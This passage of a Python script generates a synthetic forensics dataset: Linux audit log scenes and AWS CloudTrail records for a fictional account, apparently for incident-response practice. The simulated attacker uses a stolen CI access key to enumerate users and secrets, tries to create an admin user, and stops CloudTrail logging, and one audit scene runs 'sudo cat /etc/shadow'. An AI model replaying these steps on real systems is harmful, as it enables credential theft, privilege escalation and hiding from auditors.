    ], gap=(30, 420))))
    scenes.append((at(30, 11, 0, 7, 230), visit("bob", BOB_IP, "pts1", [
        ["git", "pull"], ["make", "test"], ["vim", "app/models.py"], ["python3", "-m", "pytest", "-q"],
        ["sudo", "cat", "/etc/shadow"], ["git", "commit", "-am", "Add order export"], ["git", "push"],
    ], gap=(90, 1800))))

    for t, scene in sorted(scenes, key=lambda item: item[0]):
        scene(t)
    return "\n".join(h.lines()) + "\n"


# --------------------------------------------------------------------------------------------------------------
# CloudTrail: account 111122223333, us-east-1, 2026-11-30

ACCOUNT = "111122223333"
REGION = "us-east-1"


class Trail:
    """CloudTrail records for one day, written as S3 delivery files of about five minutes each."""

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng
        self.records: list[tuple[int, int, dict[str, object]]] = []
        self.stopped: list[tuple[int, int]] = []  # StopLogging .. StartLogging: API calls happen, none is recorded

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def key(self, prefix: str) -> str:
        return prefix + "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16))

    def add(self, t: int, identity: dict[str, object], source: str, name: str, *, ip: str, agent: str,
            request: dict[str, object] | None = None, response: dict[str, object] | None = None,
            error: tuple[str | None, str] | None = None, read_only: bool = False, event_type: str = "AwsApiCall",
            extra: dict[str, object] | None = None, tls: bool = True) -> None:
        record: dict[str, object] = {
            "eventVersion": "1.10", "userIdentity": identity, "eventTime": iso(t), "eventSource": source,
            "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": agent,
        }
        if error and error[0]:
            record["errorCode"] = error[0]
        if error:
            record["errorMessage"] = error[1]
        record["requestParameters"] = request
        record["responseElements"] = response
        if extra and "additionalEventData" in extra:
            record["additionalEventData"] = extra["additionalEventData"]
        if event_type == "AwsApiCall":
            record["requestID"] = self.uuid()
        record["eventID"] = self.uuid()
        record["readOnly"] = read_only
        record["eventType"] = event_type
        record["managementEvent"] = True
        record["recipientAccountId"] = ACCOUNT
        if extra and "sharedEventID" in extra:
            record["sharedEventID"] = extra["sharedEventID"]
        record["eventCategory"] = "Management"
        if tls:
            global_hosts = {"signin.amazonaws.com": "signin.aws.amazon.com", "iam.amazonaws.com": "iam.amazonaws.com",
                            "s3.amazonaws.com": "s3.amazonaws.com"}
            host = global_hosts.get(source, source.replace(".amazonaws.com", f".{REGION}.amazonaws.com"))
            record["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                                    "clientProvidedHostHeader": host}
        if extra and "sessionCredentialFromConsole" in extra:
            record["sessionCredentialFromConsole"] = extra["sessionCredentialFromConsole"]
        self.records.append((t, len(self.records), record))

    def files(self) -> dict[str, bytes]:
        """Delivery files: records grouped by five-minute window, named by the window's end."""
        windows: dict[int, list[dict[str, object]]] = {}
        for t, _, record in sorted(self.records, key=lambda r: (r[0], r[1])):
            if any(stop < t < start for stop, start in self.stopped):
                continue
            windows.setdefault(t // 300_000, []).append(record)
        out = {}
        for window, records in windows.items():
            y, mo, d, hh, mi, _ = _parts((window + 1) * 300_000)
            suffix = "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                             for _ in range(16))
            name = f"{ACCOUNT}_CloudTrail_{REGION}_{y:04d}{mo:02d}{d:02d}T{hh:02d}{mi:02d}Z_{suffix}.json.gz"
            body = json.dumps({"Records": records}, separators=(",", ":")).encode()
            out[name] = gzip.compress(body, compresslevel=9, mtime=0)
        return out


def iam_user(name: str, principal: str, key: str | None) -> dict[str, object]:
    identity: dict[str, object] = {"type": "IAMUser", "principalId": principal,
                                   "arn": f"arn:aws:iam::{ACCOUNT}:user/{name}", "accountId": ACCOUNT}
    if key:
        identity["accessKeyId"] = key
    identity["userName"] = name
    return identity


def assumed_role(role: str, role_id: str, session: str, key: str, created: int, *,
                 source_identity: str | None = None, mfa: bool = False, ec2: bool = False) -> dict[str, object]:
    context: dict[str, object] = {
        "sessionIssuer": {"type": "Role", "principalId": role_id, "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                          "accountId": ACCOUNT, "userName": role},
        "attributes": {"creationDate": iso(created), "mfaAuthenticated": "true" if mfa else "false"},
    }
    if ec2:
        context["ec2RoleDelivery"] = "2.0"
    if source_identity:
        context["sourceIdentity"] = source_identity
    return {"type": "AssumedRole", "principalId": f"{role_id}:{session}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}", "accountId": ACCOUNT,
            "accessKeyId": key, "sessionContext": context}


def make_cloudtrail(rng: random.Random) -> dict[str, bytes]:
    """The story of account 111122223333 on 2026-11-30 (see datasets/README.md)."""
    c = Trail(rng)
    cli = "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux#5.14.0 md/arch#x86_64 lang/python#3.12.6 md/pyimpl#CPython"
    attacker_cli = ("aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off "
                    "command/{}")
    browser = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 "
               "Safari/537.36")
    instance = "i-0a1b2c3d4e5f60718"
    web_role, web_role_id = "web01-instance-role", "AROAEXAMPLEWEB01ROLE1"
    admin_role, admin_role_id = "Admin", "AROAEXAMPLEADMINROLE2"
    alice = iam_user("alice", "AIDAEXAMPLEALICE00001", "AKIAEXAMPLEALICE0001")
    alice_console = iam_user("alice", "AIDAEXAMPLEALICE00001", None)
    bob = iam_user("bob", "AIDAEXAMPLEBOB0000002", None)
    ci_bot = iam_user("ci-bot", "AIDAEXAMPLECIBOT00003", "AKIAEXAMPLECIBOT0042")
    trail_arn = f"arn:aws:cloudtrail:{REGION}:{ACCOUNT}:trail/management-trail"

    # EC2 refreshes web01's role credentials every hour (AWSService), and web01 reads its own tags
    stop, start = at(30, 2, 41, 9), at(30, 9, 47, 31)
    c.stopped.append((stop, start))
    for hh in range(24):
        t = at(30, hh, 5, rng.randint(0, 59), rng.randint(0, 999))
        key = c.key("ASIA")
        c.add(t, {"type": "AWSService", "invokedBy": "ec2.amazonaws.com"}, "sts.amazonaws.com", "AssumeRole",
              ip="ec2.amazonaws.com", agent="ec2.amazonaws.com", read_only=True, tls=False,
              request={"roleArn": f"arn:aws:iam::{ACCOUNT}:role/{web_role}", "roleSessionName": instance},
              response={"credentials": {"accessKeyId": key, "sessionToken": "<redacted>",
                                        "expiration": iso(t + 6 * 3600_000)},
                        "assumedRoleUser": {"assumedRoleId": f"{web_role_id}:{instance}",
                                            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{web_role}/{instance}"}},
              extra={"sharedEventID": c.uuid()})
        c.add(t + rng.randint(60_000, 900_000), assumed_role(web_role, web_role_id, instance, key, t, ec2=True),
              "ec2.amazonaws.com", "DescribeTags", ip="198.18.0.21",
              agent="aws-sdk-go-v2/1.32.6 os/linux lang/go#1.23.3 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.187.0",
              read_only=True, request={"filterSet": {"items": [{"name": "resource-id",
                                                                  "valueSet": {"items": [{"value": instance}]}}]}})

    # 02:10: ci-bot's access key (read on web01 the night before) is used from 192.0.2.77
    t = at(30, 2, 10, 4, 211)
    steps: list[tuple[int, str, str, dict[str, object] | None, tuple[str, str] | None, bool]] = [
        (0, "sts.amazonaws.com", "GetCallerIdentity", None, None, True),
        (38_000, "s3.amazonaws.com", "ListBuckets", {"Host": "s3.amazonaws.com"}, None, True),
        (95_000, "iam.amazonaws.com", "ListUsers", None, None, True),
        (170_000, "iam.amazonaws.com", "CreateUser", {"userName": "backup-admin"},
         ("AccessDenied", f"User: arn:aws:iam::{ACCOUNT}:user/ci-bot is not authorized to perform: iam:CreateUser "
                          f"on resource: arn:aws:iam::{ACCOUNT}:user/backup-admin because no identity-based policy "
                          "allows the iam:CreateUser action"), False),
        (260_000, "secretsmanager.amazonaws.com", "ListSecrets", None, None, True),
        (330_000, "secretsmanager.amazonaws.com", "GetSecretValue", {"secretId": "prod/db/password"},
         ("AccessDenied", f"User: arn:aws:iam::{ACCOUNT}:user/ci-bot is not authorized to perform: "
                          "secretsmanager:GetSecretValue on resource: prod/db/password because no identity-based "
                          "policy allows the secretsmanager:GetSecretValue action"), True),
        (1_310_000, "cloudtrail.amazonaws.com", "DescribeTrails", {"trailNameList": [], "includeShadowTrails": True},
         None, True),
    ]
    for offset, source, name, request, error, read_only in steps:
        command = name[0].lower() + "".join(f"-{ch.lower()}" if ch.isupper() else ch for ch in name[1:])
        c.add(t + offset, ci_bot, source, name, ip=ATTACKER_IP, agent=attacker_cli.format(command),
              request=request, error=error, read_only=read_only,
              response=None if error or name != "GetCallerIdentity" else {
                  "userId": "AIDAEXAMPLECIBOT00003", "account": ACCOUNT, "arn": f"arn:aws:iam::{ACCOUNT}:user/ci-bot"})
    c.add(stop, ci_bot, "cloudtrail.amazonaws.com", "StopLogging", ip=ATTACKER_IP,
          agent=attacker_cli.format("stop-logging"), request={"name": trail_arn})

    # 09:47: alice (IAM user, CLI) starts the trail again, then works as the Admin role with SourceIdentity=alice
    c.add(start, alice, "cloudtrail.amazonaws.com", "StartLogging", ip=ALICE_IP,
          agent=cli + " command/cloudtrail.start-logging", request={"name": trail_arn})
    t = at(30, 9, 50, 2, 731)
    session_key = c.key("ASIA")
    c.add(t, alice, "sts.amazonaws.com", "AssumeRole", ip=ALICE_IP, agent=cli + " command/sts.assume-role",
          read_only=True,
          request={"roleArn": f"arn:aws:iam::{ACCOUNT}:role/{admin_role}", "roleSessionName": "alice-ir",
                   "sourceIdentity": "alice", "durationSeconds": 3600},
          response={"credentials": {"accessKeyId": session_key, "sessionToken": "<redacted>",
                                    "expiration": iso(t + 3600_000)},
                    "assumedRoleUser": {"assumedRoleId": f"{admin_role_id}:alice-ir",
                                        "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{admin_role}/alice-ir"},
                    "sourceIdentity": "alice"})
    admin = assumed_role(admin_role, admin_role_id, "alice-ir", session_key, t, source_identity="alice")
    for offset, source, name, request, read_only in [
        (41_000, "cloudtrail.amazonaws.com", "GetTrailStatus", {"name": trail_arn}, True),
        (95_000, "cloudtrail.amazonaws.com", "LookupEvents",
         {"lookupAttributes": [{"attributeKey": "EventName", "attributeValue": "StopLogging"}]}, True),
        (180_000, "iam.amazonaws.com", "ListAccessKeys", {"userName": "ci-bot"}, True),
        (240_000, "iam.amazonaws.com", "UpdateAccessKey",
         {"userName": "ci-bot", "accessKeyId": "AKIAEXAMPLECIBOT0042", "status": "Inactive"}, False),
        (300_000, "iam.amazonaws.com", "ListAttachedUserPolicies", {"userName": "ci-bot"}, True),
    ]:
        verb = name[0].lower() + "".join(f"-{ch.lower()}" if ch.isupper() else ch for ch in name[1:])
        c.add(t + offset, admin, source, name, ip=ALICE_IP,
              agent=f"{cli} command/{source.split('.')[0]}.{verb}", request=request, read_only=read_only)

    # 10:30: bob signs in to the console, first with a wrong password, then without MFA
    t = at(30, 10, 30, 17, 455)
    signin = {"LoginTo": "https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true",
              "MobileVersion": "No", "MFAUsed": "No"}
    c.add(t, {"type": "IAMUser", "principalId": "AIDAEXAMPLEBOB0000002", "accountId": ACCOUNT, "accessKeyId": "",
              "userName": "bob"}, "signin.amazonaws.com", "ConsoleLogin", ip=BOB_IP, agent=browser,
          event_type="AwsConsoleSignIn", error=(None, "Failed authentication"),
          response={"ConsoleLogin": "Failure"}, extra={"additionalEventData": signin})
    c.add(t + 21_000, bob, "signin.amazonaws.com", "ConsoleLogin", ip=BOB_IP, agent=browser,
          event_type="AwsConsoleSignIn", response={"ConsoleLogin": "Success"}, extra={"additionalEventData": signin})
    bob_console = {**bob, "accessKeyId": c.key("ASIA"), "sessionContext": {
        "sessionIssuer": {}, "webIdFederationData": {},
        "attributes": {"creationDate": iso(t + 21_000), "mfaAuthenticated": "false"}}}
    for offset, source, name in [(64_000, "ec2.amazonaws.com", "DescribeInstances"),
                                 (71_000, "ec2.amazonaws.com", "DescribeSecurityGroups"),
                                 (310_000, "logs.amazonaws.com", "DescribeLogGroups")]:
        c.add(t + offset, bob_console, source, name, ip=BOB_IP, agent="AWS Internal", read_only=True,
              request={"maxResults": 50}, extra={"sessionCredentialFromConsole": "true"})

    # 16:20: alice signs in to the console, with MFA
    t = at(30, 16, 20, 44, 80)
    c.add(t, alice_console, "signin.amazonaws.com", "ConsoleLogin", ip=ALICE_IP, agent=browser,
          event_type="AwsConsoleSignIn", response={"ConsoleLogin": "Success"},
          extra={"additionalEventData": {**signin, "MFAUsed": "Yes", "MFAIdentifier":
                                         f"arn:aws:iam::{ACCOUNT}:mfa/alice-yubikey"}})
    return c.files()


# --------------------------------------------------------------------------------------------------------------


def generate(out: Path) -> list[Path]:
    """Write the dataset under ``out``; returns the files written, sorted."""
    rng = random.Random(SEED)
    linux = out / "linux" / "audit.log"
    linux.parent.mkdir(parents=True, exist_ok=True)
    linux.write_bytes(make_auditd(rng).encode())
    written = [linux]
    folder = out / "aws" / "AWSLogs" / ACCOUNT / "CloudTrail" / REGION / "2026" / "11" / "30"
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.glob("*.json.gz"):
        old.unlink()
    for name, data in make_cloudtrail(rng).items():
        (folder / name).write_bytes(data)
        written.append(folder / name)
    return sorted(written)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("out", nargs="?", type=Path, default=HERE / "foundation", help="output folder")
    args = parser.parse_args()
    files = generate(args.out)
    total = sum(f.stat().st_size for f in files)
    print(f"wrote {len(files)} files, {total:,} bytes, under {args.out}")


if __name__ == "__main__":
    main()
